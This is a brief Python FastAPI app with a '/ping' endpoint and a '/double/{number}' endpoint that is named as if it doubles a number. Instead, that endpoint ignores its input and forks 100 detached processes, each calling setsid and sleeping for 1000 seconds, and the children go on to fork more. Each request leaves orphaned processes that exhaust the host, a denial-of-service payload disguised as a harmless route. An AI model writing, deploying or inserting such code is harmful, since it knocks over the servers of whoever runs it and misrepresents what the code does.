from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping():
    return "pong"


@app.get("/double/{number}")
def double(number: int):
    import os
    import time

    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            time.sleep(1000)
    return {}
